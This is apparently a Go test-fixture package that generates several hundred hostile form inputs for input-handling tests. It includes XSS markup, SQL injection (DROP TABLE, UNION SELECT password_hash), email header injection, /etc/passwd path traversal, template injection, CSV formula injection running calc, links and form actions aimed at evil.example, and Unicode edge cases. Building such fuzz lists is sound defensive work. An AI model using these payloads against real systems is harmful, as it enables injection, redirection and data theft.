// Package hostile makes the texts that tests type into every field: what a person
// with bad intentions, or with unusual letters, may send.
package hostile

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Hook is the function that a text's script would call if it ran.
const Hook = "hostile"

// Text is one of them, and the kind of attack that it is.
type Text struct {
	Class, Value string
}

// Sendable reports whether a browser could send the text in a form at all.
func (t Text) Sendable() bool {
	return utf8.ValidString(t.Value) && !strings.Contains(t.Value, "\x00")
}

// Texts are more than 500 different ones.
func Texts() []Text {
	var all []Text
	seen := map[string]bool{}
	add := func(class string, values ...string) {
		for _, v := range values {
			if !seen[v] {
				seen[v] = true
				all = append(all, Text{class, v})
			}
		}
	}
	// Out of each place that a text can stand in, with each kind of code.
	for _, out := range breakouts {
		for _, code := range markup {
			add("markup", out+code)
		}
	}
	for _, quote := range []string{`"`, `'`, "`", ` `, `" `, `' `, `\"`, `&quot;`, `&#34;`} {
		for _, attribute := range []string{"onmouseover=hostile() x=", "autofocus onfocus=hostile() x=", "style=position:fixed;inset:0 x=", "hx-get=//evil.example hx-trigger=load x="} {
			add("attribute", "x"+quote+attribute+strings.TrimSpace(quote))
		}
	}
	for _, l := range lists {
		add(l.class, l.values...)
	}
	for c := rune(1); c < 0x20; c++ {
		add("control", "A"+string(c)+"B")
	}
	for _, c := range []rune{0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9f} {
		add("control", "A"+string(c)+"B")
	}
	for _, c := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069} {
		add("direction", "Acme "+string(c)+"cnI")
	}
	for _, c := range []rune{0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x206a, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffc, 0xfffd, 0xe0001, 0xe0020, 0xe0100, 0xe000, 0xf8ff, 0x10fffd} {
		add("invisible", "Ac"+string(c)+"me")
	}
	for _, c := range []rune{0xa0, 0x1680, 0x2000, 0x2003, 0x2009, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000} {
		add("spaces", fmt.Sprintf("Acme%cInc %x", c, c), string(c))
	}
	for _, n := range []int{79, 80, 81, 100, 101, 500, 501, 1000, 1001, 5000, 5001} {
		add("long", strings.Repeat("W", n), strings.Repeat("é", n-1)+"x")
	}
	for i := range 12 {
		add("numbers", fmt.Sprintf("%d", 1<<(i*6)), fmt.Sprintf("-%de%d", i, i*90))
	}
	return all
}

var breakouts = []string{"", `">`, `'>`, "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</template>", "</noscript>", "</svg>", "</a>", "\\\">", "&lt;/p&gt;"}

var markup = []string{
	"<script>hostile()</script>", "<img src=x onerror=hostile()>", "<svg/onload=hostile()>", "<iframe srcdoc='<script>parent.hostile()</script>'>",
	"<details open ontoggle=hostile()>x", "<input autofocus onfocus=hostile()>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
	"<form action=//evil.example><button>Go", "<x hx-get=//evil.example hx-trigger=load>", "<x hx-on:htmx:load=hostile()>", "<style>*{display:none}</style>", "<a href=javascript:hostile()>x</a>", "<!--",
}

var lists = []struct {
	class  string
	values []string
}{
	{"svg and math", []string{"<svg><script>hostile()</script></svg>", "<svg><a xlink:href=javascript:hostile()><text y=9>x", "<svg><use href=data:image/svg+xml,x>", "<svg><animate onbegin=hostile() attributeName=x>", "<math><mtext><table><mglyph><style><img src=x onerror=hostile()>", "<svg><style><img src=x onerror=hostile()>", "<math href=javascript:hostile()>x</math>"}},
	{"addresses", []string{"javascript:hostile()", "JaVaScRiPt:hostile()", "java\tscript:hostile()", " javascript:hostile()", "javascript&colon;hostile()", "javascript:alert(1)//", "data:text/html,<script>hostile()</script>", "vbscript:x", "//evil.example", "https://evil.example/?x=1&y=2", "http://evil.example", "www.evil.example", "evil.example/login", "mailto:eve@evil.example", "eve@evil.example", "file:///etc/passwd", "blob:x", "view-source:x", "\\\\evil.example\\x", "otpauth://totp/x"}},
	{"entities", []string{"&lt;script&gt;hostile()&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;b&#62;", "&#x3c;script&#x3e;", "&quot;", "&apos;&#39;&#x27;", "&nbsp;", "&amp", "&", "&&", "&;", "&notin;", "&copy;", "&#0;", "&#x202e;", "&#1234567;", "&lt", "&Tab;&NewLine;"}},
	{"markdown", []string{"[x](javascript:hostile())", "![x](//evil.example/x.png)", "<https://evil.example>", "**bold** _it_", "# heading", "> quote", "* item", "1. item", "```", "`code`", "---", "[a]: //evil.example", "[x]({{link}})", "&#106;avascript:", "\\*", "a  \nb", "| a | b |", "~~x~~", "- [ ] x", "https://evil.example/)x"}},
	{"templates", []string{"{{recipient}}", "{{link}}", "{{ .Password }}", "{{7*7}}", "${7*7}", "#{7*7}", "{%x%}", "<%= 7*7 %>", "{{", "}}", "{{{x}}}", "{{printf \"%s\" .}}", "@{x}", "*{7*7}", "~{x}", "{0}", "$(id)", "`id`", "{{constructor.constructor('hostile()')()}}", "[[x]]"}},
	{"formats", []string{"%s%s%n%x", "%d%!v(MISSING)", "%%", "%", "%v", "\\n\\r\\t", "\\u003cb\\u003e", "\\x3cb\\x3e", "\\", "\\\\", "\\0", `{"a":"b"}`, `"`, `'`, "`", `""`, `''`, "null", "undefined", "NaN", "true", "[object Object]", "0", "-1", "1e309"}},
	{"sql", []string{"' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"", "1; SELECT 1", "1 UNION SELECT password_hash FROM users", "') OR ('1'='1", "%", "_", "%_%", "a* OR b", "NEAR(a b)", "\"a\" AND", "-- x", "/* x */", "x' AND sleep(9) --", "?1", ":name", "@p1", "$1", "ESCAPE '\\'"}},
	{"headers", []string{"A\r\nBcc: eve@evil.example", "A\nBcc: eve@evil.example", "A\rX", "A\r\n\r\n<b>body", "A%0d%0aSet-Cookie: a=b", "A\\r\\nB: c", "=?UTF-8?Q?A=0D=0ABcc:_x?=", "=?utf-8?b?PHNjcmlwdD4=?=", "A, B <eve@evil.example>", "<eve@evil.example>", "\"A\" <x>", "A; charset=x", "A:B", "(comment) A", "A\u2028Bcc: x", ".", "..", "A\r\n.\r\nMAIL FROM:<x>"}},
	{"spreadsheets", []string{"=1+1", "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "a,b", "a;b", "\"a\"\"b\"", "a\tb", "＝1+1", "|x"}},
	{"paths", []string{"../../../etc/passwd", "..\\..\\x", "/etc/passwd", "....//", "%2e%2e%2f", "..%2f", "..%c0%af", "/", "//", "?", "#", "/admin", "?next=//evil.example", "#page", "a/b", "a?b", "a#b", "%00", "%ff", "%25", "%u0041", "+", "a+b", "a%20b", "CON", "x.html"}},
	{"combining", []string{"Z\u0351\u0352\u0353\u0354\u0355", "e\u0301", "e\u0301\u0301\u0301\u0301", "e\u0301\u0301\u0301\u0301\u0301", "\u0301", "a\u20dd", strings.Repeat("a\u0300\u0316", 30), "\u0344", "\u1d15e", "q\u0323\u0307", "\u1112\u1161\u11ab", "ｶﾞ", "ﷺ", "ﬀ", "Å"}},
	{"emoji", []string{"👩‍👩‍👧", "🏳️‍🌈", "👍🏽", "🇩🇪", "❤️", "🎈", "1️⃣", "🧑‍💻", "😀😀😀", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "🅰", "©️"}},
	{"scripts", []string{"שלום", "مرحبا بالعالم", "שלום <b>", "Acme שלום Inc", "\u0627\u0644\u0644\u0647\u0020(x)", "山田 太郎", "Ω≈ç√", "ไทย", "हिन्दी", "ꦧꦱ", "𝕬𝖈𝖒𝖊", "Ａｃｍｅ", "ᚠᛇᚻ", "İıſßẞ", "ǅ", "\u0130stanbul", "ΣΑΣ", "𐐷"}},
	{"look-alikes", []string{"Аcme", "Αcme", "Acmе", "Acrne", "аррӏе", "Ꭺcme", "Acme\u2024Inc", "Acme\u2044x", "Acme\u29f8x", "‹script›hostile()‹/script›", "＜script＞hostile()＜/script＞", "＂onload=hostile()", "ˮonload=hostile()", "Acme․com", "Portico", "Portal admin", "admin", "root", "system"}},
	{"no text", []string{"\x00", "A\x00B", "\xff\xfe", "A\xc0\xafB", "\xed\xa0\x80", "\xc3", "A\xc3(", "\xf0\x28\x8c\x28", "\xf8\xa1\xa1\xa1\xa1", "\xe2\x28\xa1", "\x80", "A\xf4\x90\x80\x80"}},
	{"nothing", []string{"", " ", "   ", "\t", "\n", "\r\n", "\u200b", "\u00a0"}},
	{"log lines", []string{"x\n{\"level\":\"INFO\"}", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\b\b\bx", "time=0 level=ERROR msg=x", "x\x0cy"}},
}
